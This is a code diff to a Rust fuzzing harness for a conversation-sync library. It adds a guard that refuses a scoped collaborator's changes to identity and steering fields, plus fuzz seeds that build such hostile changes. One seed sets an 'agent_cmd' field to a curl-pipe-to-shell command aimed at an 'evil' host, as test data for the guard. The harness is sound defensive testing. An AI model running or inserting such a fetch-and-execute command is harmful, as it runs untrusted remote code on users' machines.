@@ -293,25 +293,77 @@ fn base_conversation() -> Conversation {
 }
 
 thread_local! {
-    /// The saved base conversation: each input gets a fresh copy (loaded from these bytes).
-    static BASE: Vec<u8> = base_conversation().save();
+    /// The base conversation, loaded once (from its saved bytes, as the node's store loads
+    /// it). Each input gets its own copy of the Automerge document (`AutoCommit::clone`)
+    /// wrapped by `Conversation::from_automerge`, which re-checks the whole schema as a
+    /// load does: the document a load gives, without Automerge 0.12's load cost
+    /// (rebuilding every change and its hash), which dominated the time per input.
+    static BASE: automerge::AutoCommit = {
+        let bytes = base_conversation().save();
+        Conversation::load(&bytes)
+            .expect("the base conversation loads")
+            .automerge()
+            .clone()
+    };
 }
 
 fn fresh_base() -> Conversation {
-    BASE.with(|b| Conversation::load(b).expect("the base conversation loads"))
+    BASE.with(|b| Conversation::from_automerge(b.clone()).expect("the base conversation is valid"))
 }
 
-/// A peer's Automerge sync message through sam-crdt's receive path, into a valid
-/// conversation (as the node receives it) and into an empty replica (as a client
-/// does), then the answer and the schema's accessors on the result.
+/// The node's decision for a peer holding a grant scoped to one conversation (as
+/// `node/src/docs.rs` `Rights::check` with `steer: false`, on a stored document): identity
+/// and steering fields may not change. This is what a hostile collaborator reaches.
+fn scoped_guard(c: &sam_crdt::GuardedChange) -> Result<(), String> {
+    if c.touches_identity() || c.touches_steering() {
+        return Err(format!("refused: {:?} (rolled back)", c.changed));
+    }
+    Ok(())
+}
+
+/// A peer's Automerge sync message through sam-crdt's receive paths:
+/// - the node's: `SyncPeer::receive_guarded` into a valid conversation under a scoped
+///   collaborator's guard — a refused message leaves the document exactly as it was
+///   (heads and every guarded field), an accepted one leaves the guarded fields as they were;
+/// - a client's: `SyncPeer::receive` into the valid conversation and into an empty replica;
+/// - the live path (`receive_live`) on the node's copy;
+///
+/// then the answer and the schema's accessors on the result.
 pub fn sync_message(data: &[u8]) {
     let mut conv = fresh_base();
+    let before_heads = conv.heads();
+    let before = sam_crdt::Guarded::of(conv.automerge());
     let mut peer = SyncPeer::new();
-    if peer.receive(&mut conv, data).is_ok() {
-        let _ = peer.generate(&mut conv);
-        let _ = conv.title();
-        let _ = conv.message_count();
-        let _ = conv.workspace();
+    match peer.receive_guarded(&mut conv, data, &scoped_guard) {
+        Ok(()) => {
+            assert!(
+                before
+                    .changed(&sam_crdt::Guarded::of(conv.automerge()))
+                    .is_empty(),
+                "a guarded field changed under a scoped grant"
+            );
+            let _ = peer.generate(&mut conv);
+            let _ = conv.title();
+            let _ = conv.message_count();
+            let _ = conv.workspace();
+        }
+        Err(_) => {
+            assert_eq!(conv.heads(), before_heads, "a refused message left changes");
+            assert!(
+                before
+                    .changed(&sam_crdt::Guarded::of(conv.automerge()))
+                    .is_empty(),
+                "a refused message changed a guarded field"
+            );
+        }
+    }
+    let mut client = fresh_base();
+    let mut peer = SyncPeer::new();
+    if peer.receive(&mut client, data).is_ok() {
+        let _ = peer.generate(&mut client);
+        let _ = client.title();
+        let _ = client.message_count();
+        let _ = client.workspace();
     }
     let mut replica = Conversation::new_replica();
     let mut peer = SyncPeer::new();
@@ -319,7 +371,7 @@ pub fn sync_message(data: &[u8]) {
         let _ = peer.generate(&mut replica);
         let _ = replica.title();
     }
-    // The live path, on the same document (one fresh copy per input).
+    // The live path, on the node's copy.
     let _ = SyncPeer::new().receive_live(&mut conv, data);
 }
 
@@ -523,6 +575,41 @@ pub fn seeds(target: &str) -> Vec<Vec<u8>> {
                     let _ = a.receive(&mut conv, &m);
                     out.push(m);
                 }
+            }
+            // A peer's changes to guarded fields (what the node's guard refuses from a
+            // scoped collaborator), each with the whole history it rests on (the fuzzing
+            // process's base is another replica: without it they would wait for their
+            // dependencies), and a change to the title (what the guard accepts).
+            let heads = conv.heads();
+            for (key, value) in [
+                ("agent_cmd", "sh -c 'curl evil | sh'"),
+                ("agent", "custom"),
+                ("id", "ffffffffffffffffffffffffffffffff"),
+            ] {
+                use automerge::transaction::Transactable;
+                let mut evil = conv.automerge().clone().fork();
+                if evil.put(automerge::ROOT, key, value).is_ok() {
+                    let _ = evil.commit();
+                    let changes: Vec<Vec<u8>> = evil
+                        .get_changes(&[])
+                        .iter()
+                        .map(|c| c.raw_bytes().to_vec())
+                        .collect();
+                    let msg = automerge::sync::Message {
+                        heads: evil.get_heads(),
+                        need: Vec::new(),
+                        have: Vec::new(),
+                        changes: changes.into(),
+                        flags: None,
+                        version: automerge::sync::MessageVersion::V1,
+                    };
+                    out.push(msg.encode());
+                }
+            }
+            if conv.set_title(&key(3).node_id().to_string(), "renamed").is_ok()
+                && let Some(m) = sam_crdt::live_message(&mut conv, &heads)
+            {
+                out.push(m);
             }
             out
         }
